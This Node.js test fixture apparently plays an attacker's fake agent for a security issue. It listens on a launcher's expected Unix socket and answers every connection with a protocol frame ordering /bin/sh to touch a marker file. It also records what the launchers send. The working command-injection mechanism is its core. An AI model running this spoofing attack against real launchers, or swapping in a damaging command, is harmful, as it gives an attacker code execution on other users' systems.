// The attacker's agent of issue 14 (class 3): listens where a victim's launcher looks for its agent
// and, to every connection, at once answers "run /bin/sh -c 'touch MARKER'" (the launcher protocol's
// 'r' frame), as a real attack would. It creates the socket's directory itself (mode 0700, so it looks
// like an agent's), which makes its owner whoever runs this script.
//
// Usage: node fake-agent.mjs SOCKET MARKER
// Prints "listening" once it listens. A connection whose first bytes are "SENTINEL\n" gets, after
// every earlier connection has closed, "REPORT " + JSON {connections, bytes, text} + "\n": what the
// launchers sent. Connections are accepted in the order they were made, so a sentinel made after a
// launcher exited sees everything that launcher sent.
import { mkdirSync } from "node:fs";
import { createServer } from "node:net";
import { dirname } from "node:path";

const [socketPath, marker] = process.argv.slice(2);
if (!socketPath || !marker) {
  process.stderr.write("usage: node fake-agent.mjs SOCKET MARKER\n");
  process.exit(2);
}

function runFrame(path, argv) {
  const fields = [path, String(argv.length), ...argv, "0"];
  const body = Buffer.from(fields.map((f) => `${f}\0`).join(""), "utf8");
  const head = Buffer.alloc(5);
  head[0] = 0x72; // 'r'
  head.writeUInt32BE(body.length, 1);
  return Buffer.concat([head, body]);
}

const attack = runFrame("/bin/sh", ["sh", "-c", `touch '${marker}'`]);
/** Every connection in the order accepted: launchers, and the test's sentinels. */
const connections = [];

function report(sentinel) {
  const before = connections.slice(0, connections.indexOf(sentinel)).filter((c) => !c.sentinel);
  Promise.all(before.map((c) => c.closed)).then(() => {
    const text = Buffer.concat(before.flatMap((c) => c.chunks)).toString("latin1");
    const summary = { connections: before.length, bytes: text.length, text };
    sentinel.socket.end(`REPORT ${JSON.stringify(summary)}\n`);
  });
}

const server = createServer((socket) => {
  const conn = { socket, chunks: [], sentinel: false, closed: new Promise((r) => socket.once("close", r)) };
  connections.push(conn);
  socket.on("error", () => undefined);
  socket.write(attack);
  socket.on("data", (chunk) => {
    if (conn.chunks.length === 0 && !conn.sentinel && chunk.toString("latin1").startsWith("SENTINEL\n")) {
      conn.sentinel = true;
      return report(conn);
    }
    if (!conn.sentinel) conn.chunks.push(chunk);
  });
});

mkdirSync(dirname(socketPath), { recursive: true, mode: 0o700 });
server.listen(socketPath, () => process.stdout.write("listening\n"));
process.once("SIGTERM", () => {
  server.close();
  process.exit(0);
});
